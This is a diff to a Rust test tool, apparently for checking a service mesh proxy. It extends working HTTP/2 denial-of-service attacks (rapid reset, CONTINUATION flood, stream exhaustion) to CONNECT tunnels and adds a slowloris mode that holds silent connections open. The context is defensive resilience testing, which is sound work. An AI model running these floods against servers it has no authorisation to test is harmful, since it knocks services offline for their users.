@@ -24,11 +24,13 @@
 //! each distinct body came back; it exits non-zero unless every answer
 //! was 200.
 //!
-//! `mesh-pod h2-flood --to ADDR --attack rapid-reset|continuation` speaks
+//! `mesh-pod h2-flood --to ADDR --attack rapid-reset|continuation|…` speaks
 //! HTTP/2 (prior knowledge) abusively: it opens and at once cancels
 //! stream after stream, or sends one header block as endless CONTINUATION
-//! frames, until the peer closes; it prints the GOAWAY code it got (null
-//! if none), the bytes it managed to send and the responses it saw.
+//! frames (and more, see `Attack`), until the peer closes; it prints the
+//! GOAWAY code it got (null if none), the bytes it managed to send and the
+//! responses it saw. Its streams are `GET /`, or with `--connect AUTHORITY`
+//! `CONNECT`s, as HBONE tunnels are.
 //!
 //! `mesh-pod slow --to ADDR --request PREFIX` is a slow client: it sends
 //! PREFIX and then `a`s, a byte every `--interval-ms`, and prints how long
@@ -151,6 +153,10 @@ enum Command {
         /// Give up (the peer never closed) after this many bytes.
         #[arg(long, default_value_t = 64 << 20)]
         max_bytes: u64,
+        /// Each stream a `CONNECT` to this authority (as HBONE tunnels
+        /// are), not a `GET /`.
+        #[arg(long)]
+        connect: Option<String>,
     },
     /// Trickle a request that never ends, a byte at a time (or, with an
     /// interval of 0, connect and send nothing).
@@ -197,6 +203,11 @@ enum Command {
         to: SocketAddr,
         #[arg(long, default_value_t = 1000)]
         count: u32,
+        /// Send nothing, ever (a slowloris on whatever the peer waits
+        /// for first); per stdin line, count the connections the peer has
+        /// not closed.
+        #[arg(long)]
+        silent: bool,
     },
     /// Connect COUNT times, one connection after another.
     Connect {
@@ -263,7 +274,9 @@ fn main() -> ExitCode {
         ),
         Command::Sink { listen } => report("sink", sink(listen)),
         Command::Raw { to, request } => report("raw", raw(to, &request)),
-        Command::HoldMany { to, count } => report("hold-many", hold_many(to, count)),
+        Command::HoldMany { to, count, silent } => {
+            report("hold-many", hold_many(to, count, silent))
+        }
         Command::Upgrade {
             to,
             message,
@@ -290,7 +303,11 @@ fn main() -> ExitCode {
             to,
             attack,
             max_bytes,
-        } => report("h2-flood", h2_flood(to, attack, max_bytes)),
+            connect,
+        } => report(
+            "h2-flood",
+            h2_flood(to, attack, max_bytes, connect.as_deref()),
+        ),
         Command::Bulk { to, bytes } => report("bulk", bulk(to, bytes)),
         Command::BenchConnect { to, count } => match bench_connect(to, count) {
             Ok(()) => ExitCode::SUCCESS,
@@ -656,12 +673,16 @@ fn answer_http(
 }
 
 /// Sends `request` (escapes decoded) and prints the answer's first line.
-fn hold_many(to: SocketAddr, count: u32) -> io::Result<()> {
+fn hold_many(to: SocketAddr, count: u32, silent: bool) -> io::Result<()> {
     raise_open_file_limit()?;
     let mut held = Vec::with_capacity(count as usize);
     for attempt in 0..count {
         let mut stream = open(to, Client::PLAIN)?;
-        exchange(&mut stream, attempt)?;
+        if silent {
+            stream.set_nonblocking(true)?;
+        } else {
+            exchange(&mut stream, attempt)?;
+        }
         held.push(stream);
     }
     println!("{}", serde_json::json!({ "held": held.len() }));
@@ -671,7 +692,16 @@ fn hold_many(to: SocketAddr, count: u32) -> io::Result<()> {
         line?;
         let mut alive = 0;
         for (attempt, stream) in (0..count).zip(held.iter_mut()) {
-            if exchange(stream, attempt).is_ok() {
+            let open = if silent {
+                // Nothing to read yet and no end or reset: still open.
+                matches!(
+                    stream.peek(&mut [0; 1]),
+                    Err(error) if error.kind() == io::ErrorKind::WouldBlock
+                )
+            } else {
+                exchange(stream, attempt).is_ok()
+            };
+            if open {
                 alive += 1;
             }
         }
@@ -848,7 +878,36 @@ fn h2_frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
     frame
 }
 
-fn h2_flood(to: SocketAddr, attack: Attack, max_bytes: u64) -> io::Result<()> {
+/// An HPACK header block: `GET /` for `:authority r`, or `CONNECT` to
+/// `authority`; every field a literal or a static-table entry, so that the
+/// same block can be sent again and again.
+fn h2_request(connect: Option<&str>) -> Vec<u8> {
+    match connect {
+        // :method GET, :scheme http, :path / (indexed), then :authority
+        // "r" (literal, indexed name 1, not indexed).
+        None => vec![0x82, 0x86, 0x84, 0x01, 0x01, b'r'],
+        // :method (name 2) CONNECT and :authority (name 1), both literal,
+        // not indexed; short enough for one-byte lengths.
+        Some(authority) => {
+            let mut block = vec![0x02, 7];
+            block.extend_from_slice(b"CONNECT");
+            let length = u8::try_from(authority.len())
+                .ok()
+                .filter(|length| *length < 0x7f)
+                .expect("an authority under 127 bytes");
+            block.extend([0x01, length]);
+            block.extend_from_slice(authority.as_bytes());
+            block
+        }
+    }
+}
+
+fn h2_flood(
+    to: SocketAddr,
+    attack: Attack,
+    max_bytes: u64,
+    connect: Option<&str>,
+) -> io::Result<()> {
     use std::sync::{
         Arc,
         atomic::{AtomicBool, Ordering},
@@ -862,9 +921,7 @@ fn h2_flood(to: SocketAddr, attack: Attack, max_bytes: u64) -> io::Result<()> {
     const REFUSED_STREAM: u32 = 0x7;
     const END_STREAM: u8 = 0x1;
     const END_HEADERS: u8 = 0x4;
-    // HPACK: :method GET, :scheme http, :path / (indexed), then
-    // :authority "r" (literal, indexed name 1, not indexed).
-    const REQUEST: [u8; 6] = [0x82, 0x86, 0x84, 0x01, 0x01, b'r'];
+    let request = h2_request(connect);
 
     let stream = open(to, Client::PLAIN)?;
     stream.set_read_timeout(Some(Duration::from_secs(10)))?;
@@ -945,7 +1002,7 @@ fn h2_flood(to: SocketAddr, attack: Attack, max_bytes: u64) -> io::Result<()> {
                 loop {
                     let mut batch = Vec::new();
                     for _ in 0..100 {
-                        batch.extend(h2_frame(HEADERS, END_STREAM | END_HEADERS, id, &REQUEST));
+                        batch.extend(h2_frame(HEADERS, END_STREAM | END_HEADERS, id, &request));
                         batch.extend(h2_frame(RST_STREAM, 0, id, &8u32.to_be_bytes()));
                         id += 2;
                     }
@@ -957,7 +1014,7 @@ fn h2_flood(to: SocketAddr, attack: Attack, max_bytes: u64) -> io::Result<()> {
             }
             Attack::Continuation => {
                 streams = 1;
-                let mut first = h2_frame(HEADERS, END_STREAM, 1, &REQUEST);
+                let mut first = h2_frame(HEADERS, END_STREAM, 1, &request);
                 // Each CONTINUATION adds one small header field; none ends
                 // the block.
                 let field = [&[0x00, 0x03][..], b"x-a", &[0x01], b"b"].concat();
@@ -989,7 +1046,7 @@ fn h2_flood(to: SocketAddr, attack: Attack, max_bytes: u64) -> io::Result<()> {
             Attack::Streams => {
                 let mut batch = Vec::new();
                 for id in (1..2000u32).step_by(2) {
-                    batch.extend(h2_frame(HEADERS, END_HEADERS, id, &REQUEST));
+                    batch.extend(h2_frame(HEADERS, END_HEADERS, id, &request));
                 }
                 streams = 1000;
                 // Then a PING: once it is acknowledged, the peer has read
